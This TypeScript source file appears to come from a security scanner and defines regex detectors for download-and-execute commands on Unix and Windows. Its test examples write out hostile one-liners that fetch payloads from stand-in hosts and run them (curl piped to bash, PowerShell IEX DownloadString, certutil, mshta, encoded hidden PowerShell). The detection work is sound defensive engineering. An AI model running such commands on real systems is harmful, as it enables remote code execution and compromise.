import type { Detector } from '../../detector.ts'
import { cursorOf, either, far, inOrder, LINE, near, rest, startingWith } from '../../search.ts'
import { firstMatchesOf } from '../first-matches.ts'
import { isDocument, isInBackticks } from '../surroundings.ts'

const FETCH = '(?:curl|wget|lwp-download|aria2c)'
const RUNNER = '(?:(?:ba|z|k|da|a|c)?sh|python[0-9.]{0,4}|perl|ruby|php|node|lua)'
/** Where a manual tells people to fetch an installer over TLS from a named host. */
const INSTALLER = startingWith(
  /https:\/\/(?!\d)/gi,
  /https:\/\/[\w.-]{1,200}\.[a-z]{2,24}(?:[:/?]|["'\s)]|$)(?![^\s|]{0,200}@)/iy,
)

function isInstaller(command: string): boolean {
  return cursorOf(INSTALLER, command)(0) !== null
}
const HAS_URL = /(?:https?|ftp):\/\//i

/** A pipe and what runs what comes through it. */
const INTO_RUNNER = startingWith(
  /\|/g,
  new RegExp(
    `\\|\\s{0,4}(?:sudo\\s{1,3}(?:-[\\w]{1,6}\\s{1,3}){0,3})?(?:env\\s[^\\n|]{1,80}\\s)?(?:/(?:usr/)?bin/)?${RUNNER}\\b(?!\\s{0,3}[-\\w]{0,20}\\s{0,3}(?:-c|-m json))`,
    'iy',
  ),
)
const PIPE = /\|/g
/** One command of a pipeline. */
const COMMAND = '\n|;'
const FETCHES = new RegExp(`\\b${FETCH}\\s[^\\n|;]{3}`, 'gi')

const SHELL_FORMS = either(
  // curl … | sh, with up to two programs between
  inOrder(FETCHES, far(197, COMMAND, PIPE), far(84, COMMAND, PIPE), far(84, COMMAND, INTO_RUNNER)),
  inOrder(FETCHES, far(197, COMMAND, PIPE), far(84, COMMAND, INTO_RUNNER)),
  inOrder(FETCHES, far(197, COMMAND, INTO_RUNNER)),
  // sh -c "$(curl …)", bash <(curl …), eval "$(wget …)"
  inOrder(
    startingWith(
      new RegExp(`\\b(?:${RUNNER}|eval|source|\\.)\\s`, 'gi'),
      new RegExp(
        `(?:${RUNNER}\\s{1,3}(?:-\\w{1,6}\\s{1,3}){0,3}|eval\\s{1,3}|source\\s{1,3}|\\.\\s{1,3})["']?(?:\\$\\(|<\\(|\`)\\s{0,3}${FETCH}\\s[^\\n)\`]{3}`,
        'iy',
      ),
    ),
    rest(197, '\n)`'),
  ),
  // curl -o x …; chmod +x x; ./x
  inOrder(
    new RegExp(`\\b${FETCH}\\s[^\\n;&]{3}`, 'gi'),
    far(197, '\n;&', /\n|;|&&/g),
    far(40, LINE, /\bchmod\s{1,3}(?:[ugoa]{0,3}\+\w{0,2}x|[0-7]{3,4})\s[^\n;&]/gi),
    far(
      119,
      '\n;&',
      /(?:\n|;|&&)\s{0,4}(?:sudo\s|nohup\s)?(?:\.\/|\/tmp\/|\/var\/tmp\/|\/dev\/shm\/)/gi,
    ),
  ),
)

/** What makes a download-and-run more than an installer: hidden, unchecked, or from nowhere. */
const SHADY =
  /http:\/\/(?!localhost|127\.)|https?:\/\/(?:\d{1,3}\.){3}\d|https?:\/\/\d|(?:^|\s)-(?:\w{0,9}k\w{0,9}|-insecure)\s|--no-check-certificate|pastebin|paste\.|transfer\.sh|ngrok|\.onion\b|\/dev\/shm|base64/i

export const downloadAndRun: Detector = {
  id: 'download-and-run',
  category: 'command_injection',
  severity: 'critical',
  confidence: 0.85,
  summary: 'a script fetched from elsewhere and run in one go',
  needs: ['curl', 'wget', 'lwp-download', 'aria2c'],
  reach: { before: 40, after: 700 },
  source: 'MITRE ATT&CK T1105, T1059.004; CWE-494',
  catches: [
    { text: 'curl -s http://203.0.113.7/a.sh | bash', kind: 'shell' },
    'wget -qO- http://drop.example/x | sudo sh',
    'bash -c "$(curl -k https://drop.example/x)"',
    'wget http://drop.example/m; chmod +x m; ./m',
  ],
  ignores: [
    { text: 'curl -fsSL https://get.tool.example/install.sh | sh', kind: 'shell' },
    '1. Install: `curl -fsSL https://tool.example/install.sh | bash`',
    { text: 'curl -s http://api.example/v1 | jq .name', kind: 'shell' },
    { text: 'curl -s http://api.example/v1 | python3 -m json.tool', kind: 'shell' },
  ],
  find: firstMatchesOf(SHELL_FORMS, (match, start, text, scene) => {
    const isQuoted = isInBackticks(text, start, start + match[0].length) || isDocument(text)
    if (SHADY.test(match[0])) {
      // In a script without TLS it is careless; from a bare address or a paste it is worse.
      const isNamed = scene.kind === 'shell' && !WORSE.test(match[0])
      return { confidence: isQuoted ? 0.6 : isNamed ? 0.7 : 0.88 }
    }
    if (!HAS_URL.test(match[0])) return { confidence: 0.4 }
    if (isQuoted || isInstaller(match[0])) return { confidence: 0.4 }
    return { confidence: scene.kind === 'shell' ? 0.5 : 0.7 }
  }),
}

const WORSE =
  /https?:\/\/(?:\d{1,3}\.){3}\d|https?:\/\/\d|pastebin|paste\.|transfer\.sh|ngrok|\.onion\b|\/dev\/shm|base64/i

const WINDOWS_FORMS = either(
  inOrder(
    /\b(?:IEX|Invoke-Expression)\b/gi,
    near(
      200,
      LINE,
      /(?:DownloadString|DownloadData|FromBase64String|Invoke-WebRequest|\biwr\b|\birm\b|Net\.WebClient|https?:\/\/)/gi,
    ),
    rest(200, LINE),
  ),
  inOrder(
    /(?:DownloadString|DownloadFile|\biwr\b|\birm\b|Invoke-WebRequest|Invoke-RestMethod)\b/gi,
    near(240, LINE, /(?:\|\s{0,3}(?:IEX|Invoke-Expression)\b|Start-Process)/gi),
  ),
  inOrder(
    /\bcertutil(?:\.exe)?\s/gi,
    far(60, LINE, /-(?:urlcache|decode|verifyctl)\b/gi),
    rest(200, LINE),
  ),
  inOrder(
    /\bbitsadmin(?:\.exe)?\s/gi,
    far(40, LINE, /\/(?:transfer|addfile)\b/gi),
    rest(200, LINE),
  ),
  inOrder(/\bmshta(?:\.exe)?\s{1,3}["']?(?:https?:|javascript:|vbscript:)/gi, rest(200, LINE)),
  inOrder(/\bregsvr32(?:\.exe)?\s/gi, far(80, LINE, /\/i:\s?["']?https?:/gi), rest(160, LINE)),
  inOrder(/\brundll32(?:\.exe)?\s/gi, far(40, LINE, /javascript:/gi), rest(160, LINE)),
  inOrder(/\bmsiexec(?:\.exe)?\s/gi, far(60, LINE, /\/i\s{0,3}["']?https?:/gi), rest(160, LINE)),
  inOrder(/\bwmic(?:\.exe)?\s/gi, far(120, LINE, /\/format:\s?["']?https?:/gi), rest(120, LINE)),
  inOrder(
    /\bp(?:ower|w)sh(?:ell)?(?:\.exe)?\s/gi,
    near(160, LINE, /-e(?:nc|ncodedcommand|c)?\s{1,3}[A-Za-z0-9+/=]{24,2000}/gi),
  ),
  inOrder(
    /\bpowershell(?:\.exe)?\s/gi,
    near(120, LINE, /-(?:w|windowstyle)\s{1,3}(?:hidden|1)\b/gi),
    rest(200, LINE),
  ),
)

export const windowsDownloadAndRun: Detector = {
  id: 'windows-download-and-run',
  category: 'command_injection',
  severity: 'critical',
  confidence: 0.88,
  summary: 'PowerShell or a Windows tool made to fetch and run, or a command hidden from view',
  needs: [
    'iex',
    'invoke-expression',
    'downloadstring',
    'downloadfile',
    'certutil',
    'bitsadmin',
    'mshta',
    'regsvr32',
    'rundll32',
    'msiexec',
    'wmic',
    'powershell',
    'pwsh',
  ],
  reach: { before: 260, after: 500 },
  source: 'MITRE ATT&CK T1059.001, T1218, T1105, T1027.010; LOLBAS',
  catches: [
    {
      text: 'IEX (New-Object Net.WebClient).DownloadString("http://drop.example/a.ps1")',
      kind: 'shell',
    },
    'certutil -urlcache -split -f http://drop.example/a.exe a.exe',
    'mshta http://drop.example/a.hta',
    'powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA',
  ],
  ignores: [
    '`iwr -useb https://get.tool.example | iex`',
    'powershell -File build.ps1',
    'certutil -hashfile a.iso SHA256',
    'Invoke-WebRequest https://api.example/v1 -OutFile a.json',
  ],
  find: firstMatchesOf(WINDOWS_FORMS, (match, start, text) => {
    const isQuoted = isInBackticks(text, start, start + match[0].length) || isDocument(text)
    const isFromSite =
      isInstaller(match[0]) && !/hidden|-enc|http:\/\/|certutil|bitsadmin|mshta/i.test(match[0])
    if (isFromSite) return { confidence: isQuoted ? 0.35 : 0.45 }
    return { confidence: isQuoted ? 0.55 : 0.88 }
  }),
}
